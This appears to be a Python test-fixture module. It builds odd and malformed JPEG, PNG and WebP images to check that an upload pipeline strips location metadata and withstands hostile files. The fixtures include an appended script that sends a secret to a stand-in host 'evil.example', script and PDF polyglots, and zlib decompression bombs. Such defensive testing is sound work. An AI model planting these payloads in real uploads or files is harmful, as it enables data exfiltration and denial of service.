"""Odd pictures: taken or refused, but nothing of what is hidden in them may come out again."""

import io
import struct
import zlib
from collections.abc import Iterator

from PIL import Image, ImageCms

from tests.media.corpus import canvas, chunk, drawing, idat, ihdr, png, riff, saved

SECRET = b"56.1629N-10.2039E"
ORIENTATION, DESCRIPTION, GPS = 0x0112, 0x010E, 0x8825


def exif(orientation: int = 1) -> bytes:
    """Say where a picture was taken, and how the camera was held."""
    written = Image.Exif()
    written[ORIENTATION] = orientation
    written[DESCRIPTION] = SECRET.decode()
    written.get_ifd(GPS)[1] = "N"
    written.get_ifd(GPS)[2] = (56.0, 9.0, 46.4)
    return written.tobytes()


def srgb() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def odd_pictures() -> Iterator[tuple[str, bytes]]:
    """Give each with the words for what is odd about it; all are small enough to upload."""
    yield from _with_something_behind()
    yield from _telling_jpegs()
    yield from _strange_jpegs()
    yield from _telling_pngs()
    yield from _strange_pngs()
    yield from _webps()


def _with_something_behind() -> Iterator[tuple[str, bytes]]:
    a_zip = b"PK\x03\x04" + SECRET + b"PK\x05\x06" + bytes(18)
    a_page = b"<script>fetch('//evil.example/" + SECRET + b"')</script>"
    a_pdf = b"\n%PDF-1.7\n1 0 obj<</Title(" + SECRET + b")>>\n%%EOF"
    for form in ("JPEG", "PNG", "WEBP"):
        good = saved(drawing(), form)
        yield f"{form} that is a ZIP, too", good + a_zip
        yield f"{form} that is a web page, too", good + a_page
        yield f"{form} that is a PDF, too", good + a_pdf
        yield f"{form} with another picture behind", good + saved(drawing(), "JPEG", exif=exif())
        yield f"{form} with two megabytes behind", good + SECRET * 120_000


def segment(marker: int, data: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack("!H", len(data) + 2) + data


def with_segments(jpeg: bytes, *segments: bytes) -> bytes:
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def tiff(entries: bytes, count: int, following: int = 0) -> bytes:
    """Write EXIF of a single directory, as large as it says of itself."""
    return b"Exif\0\0MM\0*\0\0\0\x08" + struct.pack("!H", count) + entries + struct.pack(
        "!I", following
    )  # fmt: skip


def _telling_jpegs() -> Iterator[tuple[str, bytes]]:
    good = saved(drawing(), "JPEG")
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + SECRET + b"</x:xmpmeta>"
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x1c\x1c\x02\x5a\0\x11" + SECRET
    inside = saved(drawing(80, 60), "JPEG", comment=SECRET)
    yield "JPEG with a place", saved(drawing(), "JPEG", exif=exif(6))
    yield "JPEG with a place in XMP", with_segments(good, segment(0xE1, xmp))
    yield "JPEG with a place in IPTC", with_segments(good, segment(0xED, iptc))
    yield "JPEG with a remark", saved(drawing(), "JPEG", comment=SECRET)
    yield "JPEG with a thumbnail that tells", with_segments(good, segment(0xE1, tiff(inside, 0)))
    yield "JPEG with a script as its remark", with_segments(
        good, segment(0xFE, b"*/=1;alert('" + SECRET + b"')/*")
    )  # fmt: skip
    yield "JPEG with a PDF as its remark", with_segments(good, segment(0xFE, b"%PDF-1.7 " + SECRET))
    yield "JPEG with a thousand remarks", with_segments(good, segment(0xFE, SECRET * 100) * 1_000)
    first, second = drawing(), Image.new("RGB", (240, 160), "blue")
    yield "JPEG of two pictures", saved(
        first, "MPO", save_all=True, append_images=[second], exif=exif()
    )  # fmt: skip


def _strange_jpegs() -> Iterator[tuple[str, bytes]]:
    good = saved(drawing(), "JPEG")
    waves = saved(drawing(), "JPEG", progressive=True, exif=exif())
    last = waves.rindex(b"\xff\xda")
    ended = waves.rindex(b"\xff\xd9")
    frame = good.index(b"\xff\xc0")
    yield "JPEG in four inks", saved(drawing().convert("CMYK"), "JPEG", exif=exif())
    yield "JPEG in four inks with a profile of three", saved(
        drawing().convert("CMYK"), "JPEG", icc_profile=srgb()
    )  # fmt: skip
    yield "JPEG in grey", saved(drawing().convert("L"), "JPEG", exif=exif())
    yield "JPEG that comes in waves", waves
    yield "JPEG of two thousand waves", waves[:ended] + waves[last:ended] * 2_000 + b"\xff\xd9"
    yield "JPEG of one dot's width", saved(Image.new("RGB", (1, 65_000), "red"), "JPEG")
    yield "JPEG of one dot's height", saved(Image.new("RGB", (65_000, 1), "red"), "JPEG")
    yield "JPEG of twelve million dots", saved(Image.new("RGB", (4_000, 3_000), "red"), "JPEG")
    yield "JPEG of twelve bits", good[: frame + 4] + b"\x0c" + good[frame + 5 :]
    yield "JPEG in 255 colours", good[: frame + 9] + b"\xff" + good[frame + 10 :]
    for marker, name in ((0xC3, "lossless"), (0xC9, "arithmetic"), (0xCB, "both")):
        yield f"JPEG that is {name}", good[: frame + 1] + bytes([marker]) + good[frame + 2 :]
    yield "JPEG with its size said twice", with_segments(good, good[frame : frame + 19])
    yield "JPEG without an end", good[:-2]
    yield "JPEG with a profile of nothing", saved(drawing(), "JPEG", icc_profile=bytes(128))
    broken = bytearray(srgb())
    broken[128:132] = b"\xff\xff\xff\xff"
    yield "JPEG with a profile of four billion parts", saved(
        drawing(), "JPEG", icc_profile=bytes(broken)
    )  # fmt: skip
    yield "JPEG with a profile of four megabytes", saved(
        drawing(), "JPEG", icc_profile=srgb() + SECRET * 240_000
    )  # fmt: skip
    grey = bytearray(srgb())
    grey[16:20] = b"GRAY"
    yield "JPEG with a profile for grey", saved(drawing(), "JPEG", icc_profile=bytes(grey))
    for name, data in (
        ("itself", tiff(b"", 0, following=8)),
        ("more than is there", tiff(b"", 65_535)),
        ("four gigabytes", tiff(struct.pack("!HHII", ORIENTATION, 2, 2**32 - 1, 8), 1)),
        ("another way up", tiff(struct.pack("!HHIHH", ORIENTATION, 3, 1, 99, 0), 1)),
        ("a place in itself", tiff(struct.pack("!HHII", GPS, 4, 1, 8), 1)),
    ):
        yield f"JPEG whose EXIF names {name}", with_segments(good, segment(0xE1, data))


def _telling_pngs() -> Iterator[tuple[str, bytes]]:
    good = saved(drawing(), "PNG")
    at = 8 + 25  # behind the header
    for name, what, data in (
        ("words", b"tEXt", b"Comment\0" + SECRET),
        ("small words", b"zTXt", b"Comment\0\0" + zlib.compress(SECRET)),
        ("words of the world", b"iTXt", b"Comment\0\0\0\0\0" + SECRET),
        ("XMP", b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x>" + SECRET + b"</x>"),
        ("a place", b"eXIf", exif()[6:]),
        ("something of its own", b"prVt", SECRET * 50_000),
        ("a moment", b"tIME", bytes([7, 226, 1, 1, 0, 0, 0])),
        ("a light of nothing", b"gAMA", bytes(4)),
        ("colours of nothing", b"cHRM", bytes(32)),
        ("a profile that is none", b"iCCP", b"x\0\0" + zlib.compress(SECRET)),
        ("a bomb as its profile", b"iCCP", b"x\0\0" + zlib.compress(bytes(60_000_000), 9)),
        ("a bomb of words of the world", b"iTXt",
         b"a\0\1\0\0\0" + zlib.compress(bytes(60_000_000), 9)),
        ("nearly a bomb of words", b"zTXt", b"a\0\0" + zlib.compress(bytes(900_000), 9)),
    ):  # fmt: skip
        yield f"PNG with {name}", good[:at] + chunk(what, data) + good[at:]


def _strange_pngs() -> Iterator[tuple[str, bytes]]:
    row = b"\0" + bytes(range(256)) * 3
    deep = [b"\0" + b"\x12\x34" * 40 * channels for channels in (3, 4, 2)]
    for channels, colour, name in ((0, 2, "colours"), (1, 6, "colours and air"), (2, 4, "grey")):
        yield f"PNG of sixteen bits in {name}", png(
            ihdr(40, 30, 16, colour), idat(deep[channels] * 30)
        )  # fmt: skip
    yield "PNG of twelve million deep dots", png(
        ihdr(4_000, 3_000, 16, 6), chunk(b"IDAT", zlib.compress(bytes(3_000 * 32_001), 9))
    )  # fmt: skip
    yield "PNG with indexes beyond its palette", png(
        ihdr(256, 3, 8, 3), chunk(b"PLTE", b"\xff\0\0"), idat(row[:257] * 3)
    )  # fmt: skip
    yield "PNG in pieces of one byte", png(
        ihdr(256, 30), *(chunk(b"IDAT", bytes([one])) for one in zlib.compress(row * 30))
    )  # fmt: skip
    yield "PNG of a hundred thousand empty parts", png(
        ihdr(256, 30), *[chunk(b"prVt", b"")] * 100_000, idat(row * 30)
    )  # fmt: skip
    yield "PNG with words behind its pixels", png(
        ihdr(256, 30), idat(row * 30), chunk(b"tEXt", b"Comment\0" + SECRET)
    )  # fmt: skip
    yield "PNG that says it has four billion frames", png(
        ihdr(256, 30), chunk(b"acTL", b"\xff\xff\xff\xff\0\0\0\0"), idat(row * 30)
    )  # fmt: skip
    yield "PNG in rows that are laid over each other", png(
        chunk(b"IHDR", struct.pack("!IIBBBBB", 256, 30, 8, 2, 0, 0, 1)), idat(row * 60)
    )  # fmt: skip
    frames = [Image.new("RGB", (64, 48), (number, 0, 0)) for number in range(200)]
    yield "PNG of two hundred frames", saved(
        frames[0], "PNG", save_all=True, append_images=frames[1:]
    )  # fmt: skip


def _webps() -> Iterator[tuple[str, bytes]]:
    good = saved(drawing(), "WEBP", exif=exif(), xmp=SECRET, icc_profile=srgb())
    plain = saved(drawing(), "WEBP")
    frame = plain[20:]
    frames = [Image.new("RGB", (64, 48), (number, 0, 0)) for number in range(100)]
    yield "WebP with a place", good
    yield "WebP with a place, without loss", saved(
        drawing(), "WEBP", lossless=True, exif=exif(), xmp=SECRET
    )  # fmt: skip
    yield "WebP of a hundred frames", saved(
        frames[0], "WEBP", save_all=True, append_images=frames[1:]
    )  # fmt: skip
    yield "WebP that says it is longer", plain[:4] + b"\xff\xff\xff\x7f" + plain[8:]
    yield "WebP with something of its own", riff(
        canvas(240, 160), (b"VP8 ", frame), (b"prVt", SECRET * 50_000)
    )  # fmt: skip
    yield "WebP of two pictures", riff(canvas(240, 160), (b"VP8 ", frame), (b"VP8 ", frame))
    yield "WebP with air of nothing", riff(canvas(240, 160), (b"ALPH", bytes(9)), (b"VP8 ", frame))
    name, sides = canvas(240, 160)
    yield "WebP that says it has everything", riff((name, b"\xff" + sides[1:]), (b"VP8 ", frame))
    with_air = drawing().convert("RGBA")
    with_air.putalpha(90)
    yield "WebP with air and a place", saved(with_air, "WEBP", exif=exif())


def opened(file: bytes) -> Image.Image:
    return Image.open(io.BytesIO(file))
